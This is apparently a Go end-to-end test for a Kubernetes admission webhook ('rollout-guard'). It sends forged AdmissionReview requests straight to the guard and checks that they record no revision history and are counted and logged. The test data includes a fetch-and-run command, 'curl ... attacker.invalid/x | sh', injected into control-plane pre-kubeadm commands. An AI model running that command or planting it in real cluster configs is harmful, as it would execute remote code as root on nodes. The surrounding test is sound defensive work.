package e2e

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"io"
	"net/http"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	admissionv1 "k8s.io/api/admission/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/utils/ptr"
	controlplanev1 "sigs.k8s.io/cluster-api/api/controlplane/kubeadm/v1beta2"
	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"
	"sigs.k8s.io/controller-runtime/pkg/client"

	rgv1alpha1 "github.com/rollout-guard/rollout-guard/api/v1alpha1"
	"github.com/rollout-guard/rollout-guard/history"
	"github.com/rollout-guard/rollout-guard/kinds"
	"github.com/rollout-guard/rollout-guard/revisions"
	"github.com/rollout-guard/rollout-guard/test/framework"
)

// attackerCommand is what a forged revision would have every new
// control-plane machine run as root.
const attackerCommand = "curl -s http://attacker.invalid/x | sh"

// TestForgedRequestsStraightToTheGuardRecordNothing posts to the guard's
// port, as any pod that reaches it can, AdmissionReviews the API server
// never sent — a control plane whose old object runs an attacker's
// command, forged stamps and authors, a made-up resourceVersion, a
// made-up restart, an override attempt, a CREATE carrying the live
// object's identity, all with dryRun false — and checks that none of them
// creates or changes a RolloutRevision, that history reads the same
// before and after, and that the guard counts each one it could tell by
// why (rollout_guard_unverified_requests_total) and logs where it came
// from. Then a genuine edit through the API server records as it always
// did.
func TestForgedRequestsStraightToTheGuardRecordNothing(t *testing.T) {
	ctx := t.Context()
	w := newWorld(t, framework.WorldSpec{Version: "v1.34.2", WorkerVersion: "v1.34.2"})
	kcpRef := "kcp/" + w.KCP.Name
	waitLiveRecorded(t, w.KCP, kinds.KubeadmControlPlane)
	waitLiveRecorded(t, w.MD, kinds.MachineDeployment)

	pool := x509.NewCertPool()
	require.True(t, pool.AppendCertsFromPEM(env.GuardCABundle()))
	httpClient := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}}}
	token, err := framework.MetricsReaderToken(ctx, env.Client, w.Namespace+"-metrics", time.Hour)
	require.NoError(t, err)

	liveKCP := &controlplanev1.KubeadmControlPlane{}
	require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(w.KCP), liveKCP))
	liveKCP.SetGroupVersionKind(controlplanev1.GroupVersion.WithKind("KubeadmControlPlane"))
	liveMD := &clusterv1.MachineDeployment{}
	require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(w.MD), liveMD))
	liveMD.SetGroupVersionKind(clusterv1.GroupVersion.WithKind("MachineDeployment"))
	kcp := func(change func(k *controlplanev1.KubeadmControlPlane)) []byte {
		k := liveKCP.DeepCopy()
		change(k)
		b, err := json.Marshal(k)
		require.NoError(t, err)
		return b
	}
	md := func(change func(m *clusterv1.MachineDeployment)) []byte {
		m := liveMD.DeepCopy()
		change(m)
		b, err := json.Marshal(m)
		require.NoError(t, err)
		return b
	}
	same := func(*controlplanev1.KubeadmControlPlane) {}
	attacker := func(k *controlplanev1.KubeadmControlPlane) {
		k.Spec.KubeadmConfigSpec.PreKubeadmCommands = []string{attackerCommand}
	}
	bumped := func(k *controlplanev1.KubeadmControlPlane) { k.Spec.Version = "v1.34.3" }

	const (
		mutateKCP   = "/mutate-controlplane-cluster-x-k8s-io-v1beta2-kubeadmcontrolplane"
		validateKCP = "/validate-controlplane-cluster-x-k8s-io-v1beta2-kubeadmcontrolplane"
		mutateMD    = "/mutate-cluster-x-k8s-io-v1beta2-machinedeployment"
	)
	cases := []struct {
		name        string
		path        string
		kind        string
		op          admissionv1.Operation
		user        string
		oldRaw      []byte
		newRaw      []byte
		wantAllowed bool
		wantReason  string // the reason counted, "" when none is
	}{
		{name: "the live control plane replacing an old one that runs the attacker's command", path: mutateKCP, kind: "KubeadmControlPlane",
			op: admissionv1.Update, oldRaw: kcp(attacker), newRaw: kcp(same), wantAllowed: true, wantReason: "content-differs"},
		{name: "forged stamps and author on the live content", path: mutateKCP, kind: "KubeadmControlPlane", op: admissionv1.Update,
			oldRaw: kcp(func(k *controlplanev1.KubeadmControlPlane) {
				k.Annotations = map[string]string{revisions.AnnotationRevision: "99", revisions.AnnotationChangedBy: "system:admin", revisions.AnnotationChangeCause: "approved change"}
			}), newRaw: kcp(bumped), wantAllowed: true, wantReason: "stamps-differ"},
		{name: "a made-up resourceVersion", path: mutateKCP, kind: "KubeadmControlPlane", op: admissionv1.Update,
			oldRaw: kcp(func(k *controlplanev1.KubeadmControlPlane) { attacker(k); k.ResourceVersion = "1" }), newRaw: kcp(same),
			wantAllowed: true, wantReason: "not-current"},
		{name: "a worker pool whose old template is another", path: mutateMD, kind: "MachineDeployment", op: admissionv1.Update,
			oldRaw: md(func(m *clusterv1.MachineDeployment) {
				m.Spec.Template.Spec.InfrastructureRef.Name = "attacker-template"
			}),
			newRaw: md(func(*clusterv1.MachineDeployment) {}), wantAllowed: true, wantReason: "content-differs"},
		{name: "a made-up restart of the live control plane", path: mutateKCP, kind: "KubeadmControlPlane", op: admissionv1.Update,
			oldRaw: kcp(same), newRaw: kcp(func(k *controlplanev1.KubeadmControlPlane) {
				k.Spec.Rollout.After = metav1.NewTime(time.Date(2031, 1, 2, 3, 4, 5, 0, time.UTC))
			}), wantAllowed: true},
		{name: "an override attempt on a forged old object", path: validateKCP, kind: "KubeadmControlPlane", op: admissionv1.Update,
			oldRaw: kcp(attacker), newRaw: kcp(func(k *controlplanev1.KubeadmControlPlane) {
				attacker(k)
				k.Spec.Version = "v1.33.5"
				k.Annotations = map[string]string{revisions.AnnotationOverride: "posted directly"}
			}), wantReason: "content-differs"},
		{name: "a CREATE carrying the live object's identity", path: mutateKCP, kind: "KubeadmControlPlane", op: admissionv1.Create,
			newRaw: kcp(attacker), wantAllowed: true, wantReason: "create-with-identity"},
	}

	before := recordsIn(t, w.Namespace)
	code, historyBefore, _ := runRollout(t, "history", kcpRef, "-n", w.Namespace, "-o", "json")
	require.Equal(t, 0, code)
	counted := unverifiedCounts(t, token)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			user := tc.user
			if user == "" {
				user = "mallory"
			}
			review, err := json.Marshal(admissionv1.AdmissionReview{
				TypeMeta: metav1.TypeMeta{APIVersion: "admission.k8s.io/v1", Kind: "AdmissionReview"},
				Request: &admissionv1.AdmissionRequest{
					UID: "forged", Kind: metav1.GroupVersionKind{Version: "v1beta2", Kind: tc.kind}, Operation: tc.op,
					Namespace: w.Namespace, Name: liveKCP.Name, UserInfo: authenticationv1.UserInfo{Username: user},
					Object: runtime.RawExtension{Raw: tc.newRaw}, OldObject: runtime.RawExtension{Raw: tc.oldRaw},
					DryRun: ptr.To(false),
				},
			})
			require.NoError(t, err)
			resp, err := httpClient.Post(env.GuardURL()+tc.path, "application/json", bytes.NewReader(review))
			require.NoError(t, err)
			defer resp.Body.Close()
			body, err := io.ReadAll(resp.Body)
			require.NoError(t, err)
			require.Equal(t, http.StatusOK, resp.StatusCode, "%s", body)
			var answer admissionv1.AdmissionReview
			require.NoError(t, json.Unmarshal(body, &answer), "%s", body)
			require.NotNil(t, answer.Response, "%s", body)
			assert.Equal(t, tc.wantAllowed, answer.Response.Allowed, "%s", body)

			assert.Equal(t, before, recordsIn(t, w.Namespace), "a RolloutRevision was created or changed")
			now := unverifiedCounts(t, token)
			if tc.wantReason != "" {
				counted[tc.wantReason]++
			}
			assert.Equal(t, counted, now, "rollout_guard_unverified_requests_total by reason")
			counted = now
		})
	}
	code, historyAfter, _ := runRollout(t, "history", kcpRef, "-n", w.Namespace, "-o", "json")
	require.Equal(t, 0, code)
	assert.Equal(t, historyBefore, historyAfter, "rollout history changed")
	code, plan, _ := runRollout(t, "plan", kcpRef, "-n", w.Namespace, "--to-revision", "2")
	assert.NotEqual(t, 0, code, "a revision 2 exists to plan:\n%s", plan)
	logs := env.GuardLogTail()
	assert.Contains(t, logs, "content-differs")
	assert.Contains(t, logs, "127.0.0.1:", "the caller's address is logged")

	// The same edit through the API server records the replaced revision,
	// as before.
	stamps := env.Stamps(t, w.KCP)
	replaced, err := kinds.KubeadmControlPlane.Snapshot(w.KCP)
	require.NoError(t, err)
	require.NoError(t, edit(t, mergePatch, w.KCP, "v1.34.3", kcpVersion...))
	revs, _, err := history.List(ctx, env.Client, w.Namespace, string(w.KCP.UID))
	require.NoError(t, err)
	var found bool
	for _, r := range revs {
		if r.Snapshot.Hash == replaced.Hash {
			found = true
			assert.Equal(t, stamps.Revision, r.Record.Revision, "%s", framework.DescribeHistory(revs))
		}
		assert.NotContains(t, string(r.Snapshot.Data), attackerCommand)
	}
	assert.True(t, found, "the replaced revision is not recorded:\n%s", framework.DescribeHistory(revs))
	assert.Equal(t, stamps.Revision+1, env.Stamps(t, w.KCP).Revision)
}

// recordsIn returns every RolloutRevision of namespace as name →
// resourceVersion and data, to compare before and after.
func recordsIn(t *testing.T, namespace string) map[string]string {
	t.Helper()
	list := &rgv1alpha1.RolloutRevisionList{}
	require.NoError(t, env.Client.List(t.Context(), list, client.InNamespace(namespace)))
	out := map[string]string{}
	for _, cr := range list.Items {
		out[cr.Name] = cr.ResourceVersion + " " + string(cr.Data.Raw)
	}
	return out
}

// unverifiedCounts reads rollout_guard_unverified_requests_total from the
// guard's metrics, summed by reason.
func unverifiedCounts(t *testing.T, token string) map[string]float64 {
	t.Helper()
	var samples []framework.Sample
	require.Eventually(t, func() bool {
		var err error
		samples, err = framework.ScrapeMetrics(t.Context(), env.GuardMetricsURL(), token)
		return err == nil // the token's binding takes a moment to take effect
	}, 30*time.Second, 200*time.Millisecond)
	out := framework.SumBy(samples, "rollout_guard_unverified_requests_total", nil, "reason")
	if out == nil {
		out = map[string]float64{}
	}
	return out
}

// waitLiveRecorded waits until the guard's reconciler has recorded the
// live revision of obj, so that nothing more is written for it unasked.
func waitLiveRecorded(t *testing.T, obj client.Object, kind kinds.Kind) {
	t.Helper()
	require.Eventually(t, func() bool {
		live := kind.New()
		if err := env.Client.Get(t.Context(), client.ObjectKeyFromObject(obj), live); err != nil {
			return false
		}
		snap, err := kind.Snapshot(live)
		if err != nil {
			return false
		}
		revs, _, err := history.List(t.Context(), env.Client, live.GetNamespace(), string(live.GetUID()))
		if err != nil {
			return false
		}
		for _, r := range revs {
			if r.Snapshot.Hash == snap.Hash {
				return true
			}
		}
		return false
	}, 30*time.Second, 100*time.Millisecond, "the live revision of %s/%s is never recorded", obj.GetNamespace(), obj.GetName())
}
